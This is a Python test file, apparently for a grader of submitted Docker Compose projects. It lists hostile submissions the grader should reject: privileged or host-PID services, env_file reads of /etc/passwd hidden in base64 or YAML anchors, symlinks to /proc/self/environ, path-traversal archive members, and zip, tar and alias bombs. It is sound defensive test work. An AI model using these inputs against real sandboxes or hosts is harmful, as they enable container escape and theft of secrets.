_BASE = "services:\n  base:\n    image: python:3.11-slim\n"


def _override(name: str, text: str, what: str, at: str, base: str = HONEST) -> Attack:
    return Attack(name, {"compose.yml": base, "compose.override.yml": text}, what, f"compose.override.yml:{at}")


def _extends(name: str, what: str, at: str, **files: str) -> Attack:
    """``web`` extends ``base`` of ``a.yml``."""
    others = {f"{key}.yml".replace("__", "/"): text for key, text in files.items()}
    line = "    extends: {file: a.yml, service: base}\n"
    return _file(name, HONEST + line, what, at=at, files=others)


BEHIND = [
    _override("gains-rights-in-an-override-file", "services:\n  web:\n    privileged: true\n",
              "services.web.privileged", "3"),
    _override("reads-the-machine-in-an-override-file", "services:\n  web:\n" + _READS, "services.web.env_file", "3"),
    _override("includes-in-an-override-file", "services: {}\ninclude: ['{canary_yaml}']\n", "include", "2"),
    _override("gains-rights-by-overriding-a-list", "services:\n  web:\n    cap_add: !override [SYS_ADMIN]\n",
              "services.web.cap_add", "3", HONEST + "    cap_add: [KILL]\n"),
    _override("adds-a-service-in-an-override-file", "services:\n  evil:\n    image: python:3.11-slim\n    pid: host\n",
              "services.evil.pid", "4"),
    _extends("gains-rights-in-what-it-extends", "services.web.privileged", "compose.yml:2",
             a=_BASE + "    privileged: true\n"),
    _extends("gains-rights-at-the-end-of-a-chain", "services.web.pid", "compose.yml:2",
             a=_BASE + "    extends: {file: b/b.yml, service: base}\n",
             b__b=_BASE + "    extends: {file: ../c.yml, service: base}\n", c=_BASE + "    pid: host\n"),
    _extends("mounts-the-machine-in-what-it-extends", "services.web.volumes.0.source", "compose.yml:2",
             a=_BASE + "    volumes: ['{outside}:/outside']\n"),
    _extends("reads-the-machine-in-what-it-extends", "services.base.env_file", "a.yml:4", a=_BASE + _READS),
    _extends("reads-the-machine-at-the-end-of-a-chain", "services.base.env_file", "b/b.yml:4",
             a=_BASE + "    extends: {file: b/b.yml, service: base}\n", b__b=_BASE + _READS),
    _extends("includes-in-what-it-extends", "include", "a.yml:4", a=_BASE + "include: ['{canary_yaml}']\n"),
    _extends("extends-files-without-an-end", "extends", "compose.yml",
             a=_BASE + "    extends: {file: a0.yml, service: base}\n",
             **{f"a{n}": f"{_BASE}    extends: {{file: a{n + 1}.yml, service: base}}\n" for n in range(30)}),
    _file("hides-a-privileged-service-in-a-profile",
          HONEST + "  evil:\n    image: python:3.11-slim\n    profiles: [never]\n    privileged: true\n",
          "services.evil.privileged", at="compose.yml:8"),
    _file("hides-a-reading-service-in-a-profile",
          HONEST + "  evil:\n    image: python:3.11-slim\n    profiles: [never]\n" + _READS,
          "services.evil.env_file", at="compose.yml:8"),
    _file("merges-rights-from-an-anchor", "x-evil: &evil\n  privileged: true\n" + HONEST + "    <<: *evil\n",
          "services.web.privileged", at="compose.yml:2"),
    _file("merges-rights-from-several-anchors",
          "x-a: &a {init: true}\nx-b: &b\n  pid: host\n" + HONEST + "    <<: [*a, *b]\n",
          "services.web.pid"),
    _file("merges-rights-from-another-service",
          "services:\n  a: &a\n    image: python:3.11-slim\n    profiles: [never]\n  web:\n    <<: *a\n    pid: host\n",
          "services.web.pid", at="compose.yml:7"),
    _file("merges-a-whole-section", "x-s: &s\n  web:\n    image: python:3.11-slim\n" + _READS + "services: {<<: *s}\n",
          "services.web.env_file", at="compose.yml:4"),
    _file("runs-models-of-the-machine", HONEST + "models: {m: {model: x}}\n", "models"),
]  # fmt: skip

# --- files that no honest person writes --------------------------------------------------------------------------


def _unreadable(name: str, text: str | bytes, error: str, **other: Any) -> Attack:
    return Attack(name, {"compose.yml": text, **other.pop("files", {})}, error=error, **other)


def _bomb(levels: int) -> str:
    lines = ["x-0: &a0 [" + ", ".join(["x"] * 9) + "]"]
    lines += [f"x-{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, levels)]
    return "\n".join(lines) + "\n" + HONEST


UNREADABLE = [
    _unreadable("is-an-alias-bomb", _bomb(9), "once its aliases are filled in"),
    _unreadable("is-a-bomb-of-merges", "x-0: &a0 {k: v}\n" + "".join(
        f"x-{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}]}}\n"
        for n in range(1, 12)) + HONEST, "once its aliases are filled in"),
    _unreadable("has-an-alias-of-itself", "x-a: &a [*a]\n" + HONEST, "stands for itself"),
    _unreadable("has-thousands-of-aliases", "x-a: &a 1\nx-b: [" + "*a, " * 900 + "1]\n" + HONEST, "YAML aliases"),
    _unreadable("has-thousands-of-values", HONEST + "x-a: [" + "1, " * 30_000 + "1]\n", "stands for more than"),
    _unreadable("is-nested-without-an-end", HONEST + "x-a: " + "[" * 20_000 + "]" * 20_000 + "\n", "too deeply"),
    _unreadable("is-nested-in-blocks", HONEST + "x-a:\n" + "".join(f"{' ' * n}- \n" for n in range(1, 400)),
                "too deeply"),
    _unreadable("is-larger-than-any-file", HONEST + "# " + "x" * 2**19 + "\n", "is larger than"),
    _unreadable("hides-include-in-binary", HONEST + "!!binary aW5jbHVkZQ==: ['{canary_yaml}']\n", "the YAML tag"),
    _unreadable("hides-a-path-in-binary", HONEST + "    env_file: !!binary L2V0Yy9wYXNzd2Q=\n", "the YAML tag"),
    _unreadable("has-a-tag-of-its-own", HONEST + "    env_file: !file '{canary_file}'\n", "the YAML tag"),
    _unreadable("has-a-tag-in-full", HONEST + "    init: !<tag:yaml.org,2002:binary> eA==\n", "the YAML tag"),
    _unreadable("changes-what-tags-mean", "%TAG ! tag:example.test,2000:\n---\n" + HONEST, "directive"),
    _unreadable("has-a-second-document", HONEST + "---\nservices: {web: {env_file: '{canary_file}'}}\n",
                "second YAML document"),
    _unreadable("has-a-document-behind-the-end", HONEST + "...\nservices: {web: {privileged: true}}\n", "YAML"),
    _unreadable("has-a-key-that-is-a-list", HONEST + "? [include]\n: ['{canary_yaml}']\n", "a key that is not a word"),
    _unreadable("says-one-thing-twice", HONEST + "    privileged: false\n    privileged: true\n", "already defined"),
    _unreadable("is-written-in-utf-16", (HONEST + "    privileged: true\n").encode("utf-16"), "not UTF-8"),
    _unreadable("is-no-yaml", HONEST + "\t- [", "not valid YAML"),
    _unreadable("reads-the-machine-behind-two-byte-order-marks",
                "\ufeff\ufeffservices:\n   web:\n     image: python:3.11-slim\n#    env_file: '{canary_file}'\n",
                "compose.yml"),
    _unreadable("makes-variables-grow", HONEST + "    labels: {a: '${K}'}\n", "compose.yml", files={
        ".env": "A=" + "x" * 64 + "\n" + "".join(f"{b}=" + f"${{{a}}}" * 8 + "\n"
                                              for a, b in zip("ABCDEFGHIJ", "BCDEFGHIJK", strict=True))}),
    _unreadable("asks-for-its-own-service", "services: {other: {image: 'python:3.11-slim'}}\n",
                "no service called web"),
    _unreadable("has-no-services", "x-a: 1\n", "compose.yml"),
    _unreadable("is-empty", "", "compose.yml"),
    _unreadable("depends-on-itself", HONEST + "    depends_on: [web]\n", "compose.yml"),
    _unreadable("extends-itself", HONEST + "    extends: web\n", "compose.yml"),
]  # fmt: skip

# --- links, pipes and archives -----------------------------------------------------------------------------------

_OK = {"compose.yml": HONEST}
LINKS = [
    Attack("links-to-a-file-of-the-machine", _OK, links={"answer.txt": "{canary_file}"}, error="leads out"),
    Attack("links-to-a-compose-file-of-the-machine", {}, links={"compose.yml": "{canary_yaml}"}, error="leads out"),
    Attack("links-to-a-file-from-above", _OK, links={"answer.txt": "{up}{canary_file}"}, error="leads out"),
    Attack("links-to-a-folder-of-the-machine", _OK, links={"data": "{outside}"}, error="leads out"),
    Attack("links-to-the-root", _OK, links={"data": "/"}, error="leads out"),
    Attack("links-through-a-link", _OK, links={"a": "b", "b": "{canary_file}"}, error="leads out"),
    Attack("links-to-the-graders-variables", _OK, links={"answer.txt": "/proc/self/environ"}, error="leads out"),
    Attack("links-to-a-folder-of-its-own", {**_OK, "d/x": ""}, links={"data": "d"}, error="not a file"),
    Attack("links-to-nothing", _OK, links={"answer.txt": "nothing"}, error="not a file"),
    Attack("links-in-a-circle", _OK, links={"a": "b", "b": "a"}, error="is a link"),
]


def _tar(*members: tuple[str, bytes, bytes, str]) -> Callable[[Path, Aim], Path]:
    """Name, type, content and link of each member, in which the targets are filled in."""

    def make(folder: Path, aim: Aim) -> Path:
        path = folder / "submission.tar.gz"
        with tarfile.open(path, "w:gz") as archive:
            for name, kind, content, link in (("compose.yml", tarfile.REGTYPE, HONEST.encode(), ""), *members):
                member = tarfile.TarInfo(aim.fill(name))
                member.type, member.linkname, member.size = kind, aim.fill(link), len(content)
                archive.addfile(member, io.BytesIO(content))
        return path

    return make


def _zip(*members: tuple[str, bytes], mode: int = 0, method: int = zipfile.ZIP_DEFLATED) -> Callable[[Path, Aim], Path]:
    """Name and content of each member."""

    def make(folder: Path, aim: Aim) -> Path:
        path = folder / "submission.zip"
        with zipfile.ZipFile(path, "w", method) as archive:
            archive.writestr("compose.yml", HONEST)
            for name, content in members:
                member = zipfile.ZipInfo(aim.fill(name))
                member.external_attr, member.compress_type = mode << 16, method
                archive.writestr(member, aim.fill(content.decode()) if len(content) < 1000 else content)
        return path

    return make


def _changed(make: Callable[[Path, Aim], Path], change: Callable[[bytes], bytes]) -> Callable[[Path, Aim], Path]:
    """An archive whose bytes are changed afterwards."""

    def changed(folder: Path, aim: Aim) -> Path:
        path = make(folder, aim)
        path.write_bytes(change(path.read_bytes()))
        return path

    return changed


def _tar_of_zeros(kind: bytes, name: str, mebibytes: int) -> Callable[[Path, Aim], Path]:
    """A member of so many zeros, a thousandth as large when it is packed."""

    def make(folder: Path, aim: Aim) -> Path:
        path = folder / "submission.tar.gz"
        member = tarfile.TarInfo(name)
        member.type, member.size = kind, mebibytes * 2**20
        with gzip.open(path, "wb", compresslevel=1) as stream:
            stream.write(member.tobuf(tarfile.GNU_FORMAT))
            for _ in range(mebibytes):
                stream.write(bytes(2**20))
            stream.write(bytes(1024))
        return path

    return make


def _plain_file(name: str, content: bytes) -> Callable[[Path, Aim], Path]:
    def make(folder: Path, aim: Aim) -> Path:
        (folder / name).write_bytes(content)
        return folder / name

    return make


REG, SYM, LNK = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
ARCHIVES = [
    Attack(name, archive=archive, error=error)
    for name, archive, error in [
        ("unpacks-above-from-a-tar", _tar(("{up}{outside}/marker", REG, b"x", "")), "outside the submission"),
        ("unpacks-to-a-path-from-a-tar", _tar(("{outside}/marker", REG, b"x", "")), "outside the submission"),
        ("unpacks-through-a-link-from-a-tar", _tar(("out", SYM, b"", "{outside}"), ("out/marker", REG, b"x", "")),
         "link or a device"),
        ("unpacks-a-folder-above-from-a-tar", _tar(("a/../../marker", tarfile.DIRTYPE, b"", "")),
         "outside the submission"),
        ("links-to-the-machine-in-a-tar", _tar(("answer.txt", SYM, b"", "{canary_file}")), "link or a device"),
        ("links-hard-to-the-machine-in-a-tar", _tar(("answer.txt", LNK, b"", "{canary_file}")), "link or a device"),
        ("brings-a-disk-in-a-tar", _tar(("answer.txt", tarfile.BLKTYPE, b"", "")), "link or a device"),
        ("brings-a-device-in-a-tar", _tar(("answer.txt", tarfile.CHRTYPE, b"", "")), "link or a device"),
        ("brings-a-pipe-in-a-tar", _tar(("answer.txt", tarfile.FIFOTYPE, b"", "")), "link or a device"),
        ("brings-something-new-in-a-tar", _tar(("answer.txt", b"Z", b"", "{canary_file}")), "link or a device"),
        ("is-a-tar-bomb", _tar_of_zeros(REG, "zeros", 64), "MiB"),
        ("is-a-tar-bomb-in-a-long-name", _tar_of_zeros(tarfile.GNUTYPE_LONGNAME, "zeros", 256), "submission.tar.gz"),
        ("is-a-tar-bomb-in-a-header", _tar_of_zeros(tarfile.XHDTYPE, "zeros", 256), "submission.tar.gz"),
        ("is-a-tar-cut-off", _changed(_tar(("a", REG, b"x" * 9999, "")), lambda data: data[:-40]),
         "cannot be unpacked"),
        ("is-a-tar-of-ten-thousand", _tar(*((f"f{n}", REG, b"", "") for n in range(10_000))), "more than 500 files"),
        ("unpacks-above-from-a-zip", _zip(("{up}{outside}/marker", b"x")), "outside the submission"),
        ("unpacks-to-a-path-from-a-zip", _zip(("{outside}/marker", b"x")), "outside the submission"),
        ("unpacks-above-as-on-windows", _zip(("..\\..\\marker", b"x")), "outside the submission"),
        ("unpacks-to-a-disk-of-windows", _zip(("C:/marker", b"x")), "outside the submission"),
        ("links-to-the-machine-in-a-zip", _zip(("answer.txt", b"{canary_file}"), mode=stat.S_IFLNK | 0o777),
         "link or a device"),
        ("brings-a-device-in-a-zip", _zip(("answer.txt", b""), mode=stat.S_IFCHR | 0o666), "link or a device"),
        ("is-a-zip-bomb", _zip(("zeros", bytes(64 * 2**20))), "MiB"),
        (
            "is-a-zip-bomb-in-another-method",
            _zip(("zeros", bytes(64 * 2**20)), method=zipfile.ZIP_LZMA),
            "submission.zip",
        ),
        ("is-a-zip-of-ten-thousand", _zip(*((f"f{n}", b"") for n in range(10_000))), "more than 500 files"),
        ("is-a-zip-without-bottom", _zip(("d/" * 40 + "f", b"")), "folders deep"),
        ("is-a-zip-with-a-password",
         _changed(_zip(("a", b"x")), lambda data: data.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00",
                                                               b"PK\x01\x02\x14\x03\x14\x00\x01\x00")), "encrypted"),
        ("is-a-zip-of-an-unknown-method",
         _changed(_zip(("a", b"x")), lambda data: data.replace(b"\x08\x00", b"\x63\x00")), "cannot be unpacked"),
        ("is-a-zip-with-a-false-sum",
         _changed(_zip(("a", b"x")), lambda data: data.replace(zlib.crc32(b"x").to_bytes(4, "little"), b"1234")),
         "cannot be unpacked"),
        ("is-a-zip-with-a-false-size",
         _changed(_zip(("a", b"x")), lambda data: data.replace(b"\x01\x00\x00\x00\x01\x00\x00\x00",
                                                               b"\xff\xff\xff\x7f\xff\xff\xff\x7f")),
         "submission.zip"),
        ("is-a-file-and-a-folder-at-once", _zip(("a", b"x"), ("a/b", b"x")), "cannot be unpacked"),
        ("has-a-name-of-three-hundred-letters", _zip(("n" * 300, b"x")), "cannot be unpacked"),
        ("is-no-archive", _plain_file("submission.zip", b"PK\x03\x04" + bytes(300)), "neither a folder"),
        ("is-a-disk-image", _plain_file("submission.iso", bytes(4096)), "submission.iso"),
        ("is-a-huge-compose-file", _plain_file("compose.yml", b"#" * (21 * 2**20)), "MiB"),
    ]
]  # fmt: skip

ATTACKS = [
    *PRIVILEGES, *NAMESPACES, *MACHINE, *DATA_OUT, *MOUNTS, *IN_NETWORK, *SECTIONS, *BUILDS, *DOCKERFILES, *READS,
    *INCLUDES, *BEHIND, *UNREADABLE, *LINKS, *ARCHIVES,
]  # fmt: skip

# --- what comes to nothing --------------------------------------------------------------------------------------

# Refused or not, none of it gets anything of the machine.
IN_VAIN = [
    _service("builds-with-a-variable-of-the-machine", "build: {context: ., args: ['{variable}']}", "build",
             files={"Dockerfile": FROM}),
    _service("builds-with-a-variable-without-value", "build: {context: ., args: {'{variable}': }}", "build",
             files={"Dockerfile": FROM}),
    _service("asks-for-variables-of-the-machine", "labels: {a: '${{variable}} ${HOME} ${PATH:-x} ${PWD-x}'}",
             ""),
    _service("mounts-the-home-folder", "volumes: ['~:/outside:ro']", ""),
    _service("mounts-keys-of-the-home-folder", "volumes: ['~/.ssh:/outside:ro']", ""),
    _file("has-a-secret-in-the-home-folder", HONEST + "    secrets: [s]\nsecrets: {s: {file: ~/.bashrc}}\n"),
] + [
    _service(f"names-{name}-in-its-env", "labels: {a: '${CANARY:-}', b: '${A:-}'}", "", files={".env": text})
    for name, text in {
        "another-compose-file": "COMPOSE_FILE={canary_yaml}\n",
        "several-compose-files": "COMPOSE_PATH_SEPARATOR=,\nCOMPOSE_FILE=compose.yml,{canary_yaml}\n",
        "another-project": "COMPOSE_PROJECT_NAME=somebodys\n",
        "another-env-file": "COMPOSE_ENV_FILES={canary_file}\n",
        "variables-of-the-machine": "A=${{variable}} $HOME $PATH\nCANARY=${{variable}:-nothing}\n",
        "another-engine": "DOCKER_HOST=tcp://127.0.0.1:{port}\nDOCKER_CONTEXT=somebodys\n",
        "another-configuration": "DOCKER_CONFIG={outside}\nHOME={outside}\n",
    }.items()
]  # fmt: skip
